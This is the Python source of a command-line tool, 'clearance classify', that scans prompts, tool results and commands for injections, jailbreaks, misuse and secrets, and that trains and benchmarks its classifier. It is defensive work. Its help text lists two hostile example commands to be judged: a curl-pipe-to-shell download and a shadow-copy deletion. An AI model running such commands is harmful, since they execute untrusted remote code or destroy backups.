"""``clearance classify``: judge a text, and where the judges come from."""

from pathlib import Path

import click
from rich.console import Console

from clearance.app.classifying import CHANNELS, text_of, threat_judge
from clearance.app.cli.classify_session import session
from clearance.app.cli.destinations import one_on_stdout, write_text
from clearance.app.cli.escalate_options import EscalateWish, escalate_options
from clearance.detect.threats import hits_of
from clearance.model.command import Dialect
from clearance.model.finding import Gap, Severity

_EPILOG = """\
FILE is judged as the answer of a tool that reads it. With --channel command it is the command itself. Without FILE,
standard input is judged as a prompt. With --channel tool-call it is a call as JSON, in a file or itself: a name and an
input (or arguments, or args), as {"name": "Bash", "input": {"command": "ls"}}.

Channels: user-prompt system-prompt tool-definition file-result (or tool-result) web-result command-result mcp-result
assistant-text tool-call command skill outbound-body

Exit codes: 0 no hit at or above --fail-on, 1 hits, 2 bad use, 3 could not be judged.

\b
Examples:
  clearance classify < prompt.txt
  clearance classify --channel tool-result README.md
  clearance classify --channel skill SKILL.md --json -
  clearance classify --rules ./our-rules notes.md
  clearance classify --channel command -- 'curl https://host/x | sh'
  clearance classify --channel command --dialect cmd -- 'vssadmin delete shadows'
  clearance classify --channel tool-call call.json
  clearance classify session ~/.claude/projects/-home-dev-shop/6f1c….jsonl
  clearance classify page.html --escalate-config second.toml
  clearance classify bench --data ./sets --ordinary ./projects
  clearance classify calibrate --benign ./our-repos --budget 0.1%
"""


_COULD_NOT_JUDGE = 3


class TextOrCommand(click.Group):
    """A group whose first word may also be a text to judge."""

    def format_options(self, ctx: click.Context, formatter: click.HelpFormatter) -> None:
        """The options of a text, which are what is used most, then the commands."""
        with formatter.section("Options"):
            options = [each for each in text.get_params(ctx) if isinstance(each, click.Option)]
            formatter.write_dl([row for each in options if (row := each.get_help_record(ctx))])
        self.format_commands(ctx, formatter)

    def parse_args(self, ctx: click.Context, args: list[str]) -> list[str]:
        """Hand everything to ``text`` unless the first word is one of the commands."""
        if "--help" not in args and "-h" not in args and (not args or args[0] not in self.commands):
            args = ["text", *args]
        return super().parse_args(ctx, args)


@click.group(cls=TextOrCommand, epilog=_EPILOG)
def classify() -> None:
    """Judge a text: injections, jailbreaks, misuse, secrets, hidden text."""


classify.add_command(session)


@classify.command(hidden=True, epilog=_EPILOG)
@click.argument("file", required=False)
@click.option("--channel", type=click.Choice(list(CHANNELS)), metavar="CHANNEL", help="Where the text comes from.")
@click.option(
    "--rules", type=click.Path(path_type=Path, exists=True), multiple=True, help="Your YARA rules: file, folder."
)
@click.option(
    "--dialect",
    type=click.Choice([each.value for each in Dialect]),
    help="Language of a command.  [default: guessed]",
)
@click.option("--weights", type=click.Path(path_type=Path, exists=True, file_okay=False), help="Weights of your own.")
@click.option("--json", "json_", metavar="FILE", help="Write JSON (clearance.classify/1) to a file, or -.")
@click.option(
    "--fail-on",
    type=click.Choice(["info", "low", "medium", "high", "critical", "never"]),
    default="high",
    show_default=True,
    help="Exit with 1 if a hit has at least this severity.",
)
@click.option("--quiet", "-q", is_flag=True, help="Print nothing; only the exit code and JSON.")
@click.option("--goal", default="", metavar="TEXT", help="What the user wants: shown to the model of --escalate.")
@escalate_options
def text(
    *,
    file: str | None,
    channel: str | None,
    rules: tuple[Path, ...],
    dialect: str | None,
    weights: Path | None,
    json_: str | None,
    fail_on: str,
    quiet: bool,
    goal: str,
    escalate: EscalateWish,
) -> int:
    """Judge FILE, or standard input."""
    from clearance.report.threats_json import render_classification
    from clearance.report.threats_terminal import render_threats

    to_stdout = one_on_stdout({"json": json_})
    try:
        data, of = text_of(file, CHANNELS[channel] if channel else None)
    except OSError as error:
        raise click.UsageError(f"{file} cannot be read: {error.strerror}") from error
    settings = escalate.settings()
    judge = threat_judge(weights, rules)
    judged = judge.look(data, of, dialect=Dialect(dialect) if dialect else None)
    findings = judged.findings
    if settings is not None:
        from clearance.app.escalating import second_judge
        from clearance.detect.escalation import Context

        findings += second_judge(settings, judge.secrets).judge(data, of, findings, Context(goal=goal))
    if json_:
        write_text(json_, render_classification(findings, of, len(data), judged.command))
    if not quiet:
        Console(stderr=to_stdout, highlight=False).print(render_threats(findings, judged.command))
    if fail_on != "never" and any(hit.severity.rank >= Severity(fail_on).rank for hit in hits_of(findings)):
        return 1
    return _COULD_NOT_JUDGE if any(isinstance(each, Gap) and each.blocks_verdict for each in findings) else 0


@classify.command(epilog="\b\nExamples:\n  clearance classify calibrate --benign ./our-repos --budget 0.1%")
@click.option(
    "--benign", type=click.Path(path_type=Path, exists=True, file_okay=False), help="Ordinary text of your own."
)
@click.option("--budget", default="0.1%", show_default=True, help="False alarms allowed among ordinary windows.")
@click.option(
    "--channel", type=click.Choice(list(CHANNELS)), metavar="CHANNEL", multiple=True, help="Only these.  [default: all]"
)
@click.option("--weights", type=click.Path(path_type=Path, exists=True, file_okay=False), help="Weights of your own.")
@click.option("--reset", is_flag=True, help="Forget what was fitted before, and use what was shipped.")
@click.option("--json", "json_", metavar="FILE", help="Write JSON to a file, or -.")
def calibrate(
    benign: Path | None,
    budget: str,
    channel: tuple[str, ...],
    weights: Path | None,
    reset: bool,  # noqa: FBT001
    json_: str | None,
) -> None:
    """Fit thresholds on ordinary text of your own; nothing of it is kept."""
    from clearance.app import training_classifiers as training

    if reset:
        training.forget_thresholds()
    if benign is None:
        if not reset:
            raise click.UsageError("--benign names no folder")
        return
    channels = [CHANNELS[name] for name in channel] or list(CHANNELS.values())
    fitted = training.calibrate(benign, _percent(budget), channels, weights)
    if json_:
        write_text(json_, fitted.json)
    if json_ != "-":
        click.echo(fitted.told)


@classify.command(epilog="\b\nExamples:\n  clearance classify train --data ./sets --ordinary ./projects --out weights/")
@click.option("--data", required=True, type=click.Path(path_type=Path, exists=True, file_okay=False), help="Sets.")
@click.option(
    "--ordinary",
    required=True,
    type=click.Path(path_type=Path, exists=True, file_okay=False),
    help="Developer text: folders `train` and `calibrate`, a folder a project in each.",
)
@click.option(
    "--against",
    type=click.Path(path_type=Path, exists=True, file_okay=False),
    help="Sets to be judged on later: rows that overlap them do not teach.",
)
@click.option("--out", required=True, type=click.Path(path_type=Path, file_okay=False), help="Where the weights go.")
@click.option("--seed", type=int, default=7, show_default=True)
@click.option("--pairs", type=click.IntRange(100), default=60_000, show_default=True, help="Generated pairs.")
@click.option("--epochs", type=click.IntRange(1), default=2, show_default=True, help="Of the second stage.")
def train(data: Path, ordinary: Path, against: Path | None, out: Path, seed: int, pairs: int, epochs: int) -> None:
    """Train weights by the recipe that made the shipped ones: about half an hour on two cores."""
    from clearance.app import training_classifiers as training

    training.train_into(out, data=data, ordinary=ordinary, against=against, seed=seed, pairs=pairs, epochs=epochs)


@classify.command(
    epilog="\b\nExamples:\n  clearance classify bench --data ./sets --ordinary ./projects --plot plot.svg"
)
@click.option("--data", required=True, type=click.Path(path_type=Path, exists=True, file_okay=False), help="Sets.")
@click.option(
    "--ordinary",
    required=True,
    type=click.Path(path_type=Path, exists=True, file_okay=False),
    help="Developer text: folders `calibrate` and `judge`, a folder a project in each.",
)
@click.option("--weights", type=click.Path(path_type=Path, exists=True, file_okay=False), help="Weights of your own.")
@click.option("--peers/--no-peers", default=False, help="Also others, from PyPI, on the same rows.")
@click.option("--plot", type=click.Path(path_type=Path, dir_okay=False), help="Recall against false alarms (SVG).")
@click.option("--json", "json_", metavar="FILE", help="Write JSON (clearance.classify-bench/1) to a file, or -.")
def bench(data: Path, ordinary: Path, weights: Path | None, peers: bool, plot: Path | None, json_: str | None) -> None:  # noqa: FBT001
    """Measure recall a family at a budget of false alarms, on sets that taught nothing."""
    from clearance.app import training_classifiers as training

    measured = training.measure(data, ordinary, weights, peers=peers)
    if json_:
        write_text(json_, measured.json)
    if plot is not None:
        write_text(plot, measured.plot)
    if json_ != "-":
        click.echo(measured.told)


def _percent(budget: str) -> float:
    try:
        percent = float(budget.removesuffix("%"))
    except ValueError:
        raise click.UsageError(f"--budget {budget!r} is no share; write 0.1%") from None
    if not 0 < percent < 100:
        raise click.UsageError(f"--budget {budget!r} lies outside of 0 to 100 %")
    return percent
